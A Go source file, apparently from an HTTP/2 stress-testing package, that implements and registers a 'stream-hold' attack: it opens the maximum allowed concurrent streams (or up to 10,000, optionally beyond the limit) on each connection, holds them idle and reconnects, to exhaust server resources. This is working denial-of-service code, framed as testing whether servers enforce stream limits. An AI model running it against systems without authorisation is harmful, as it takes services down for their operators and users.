package h2attack

import (
	"context"
	"fmt"
	"time"
)

// maxUnlimitedHold is how many streams stream-hold opens per connection
// when neither its Streams nor the server says how many.
const maxUnlimitedHold = 10_000

// StreamHoldParams: stream-hold opens as many concurrent streams as the
// server allows (its SETTINGS_MAX_CONCURRENT_STREAMS) on each connection,
// each with a real request, and then sits idle (answering PINGs) until the
// end: every stream pins a handler, its buffers and its goroutines. A
// server without a per-connection stream limit (or a per-server one)
// grows with every stream. A healthy server announces a limit and refuses
// streams beyond it with RST_STREAM(REFUSED_STREAM).
type StreamHoldParams struct {
	// Connections attacking in parallel. Default 1.
	Connections int `yaml:"connections"`
	// Reconnect dials again (after 50ms) when the server closes a
	// connection before the time bound, at most 1000 times per
	// connection. Default true.
	Reconnect bool `yaml:"reconnect"`
	// Streams per connection; 0 = the server's MAX_CONCURRENT_STREAMS
	// (10000 when it announces none). Default 0.
	Streams int `yaml:"streams"`
	// Exceed opens Streams even beyond the server's announced limit (to
	// see it refuse them). Default false.
	Exceed bool `yaml:"exceed"`
	// Duration bounds the attack. Default 30s.
	Duration time.Duration `yaml:"duration"`
	// Rate is streams opened per second per connection; 0 = at once. In a
	// scenario it is the role's rate. Default 1000.
	Rate float64 `yaml:"-"`
}

// DefaultStreamHold returns stream-hold's defaults.
func DefaultStreamHold() StreamHoldParams {
	return StreamHoldParams{Connections: 1, Reconnect: true, Duration: 30 * time.Second, Rate: 1000}
}

func (p *StreamHoldParams) limits() limits {
	n := p.Streams
	if n == 0 {
		n = maxUnlimitedHold
	}
	return limits{connections: p.Connections, count: n, rate: p.Rate, duration: p.Duration}
}

// Validate implements Params.
func (p *StreamHoldParams) Validate() error {
	if p.Streams < 0 {
		return fmt.Errorf("stream-hold: streams must be at least 0 (0: the server's limit), got %d", p.Streams)
	}
	return p.limits().validate("stream-hold", "streams")
}

// SetRate implements Params.
func (p *StreamHoldParams) SetRate(r float64) { p.Rate = r }

// Pace implements Params.
func (p *StreamHoldParams) Pace() float64 { return p.Rate }

// Run implements Params.
func (p *StreamHoldParams) Run(ctx context.Context, t Target, req Request, report Report) (Result, error) {
	if err := p.Validate(); err != nil {
		return Result{Attack: "stream-hold", Target: t.Addr}, fmt.Errorf("h2attack: %w", err)
	}
	want := "the server's MAX_CONCURRENT_STREAMS"
	if p.Streams > 0 {
		want = fmt.Sprint(p.Streams)
	}
	return run(ctx, t, req, spec{noReconnect: !p.Reconnect, name: "stream-hold", lim: p.limits(),
		describe: fmt.Sprintf("%s request streams per connection (exceed: %v), then silence", want, p.Exceed),
		loop: func(ctx context.Context, c *conn) (string, error) {
			n := p.Streams
			switch {
			case n == 0 && c.hasMax:
				n = int(min(c.maxStreams, maxUnlimitedHold))
			case n == 0:
				n = maxUnlimitedHold
			case c.hasMax && !p.Exceed:
				n = int(min(uint32(n), c.maxStreams))
			}
			if _, err := c.pace(ctx, n, p.Rate, func(int) error {
				_, err := c.openStream(true)
				return err
			}); err != nil {
				return "", err
			}
			return c.holdOpen(ctx)
		}}, report)
}

func init() {
	register(Attack{Name: "stream-hold", Summary: "the most concurrent streams the server allows, then silence",
		Params: func() Params { p := DefaultStreamHold(); return &p }})
}
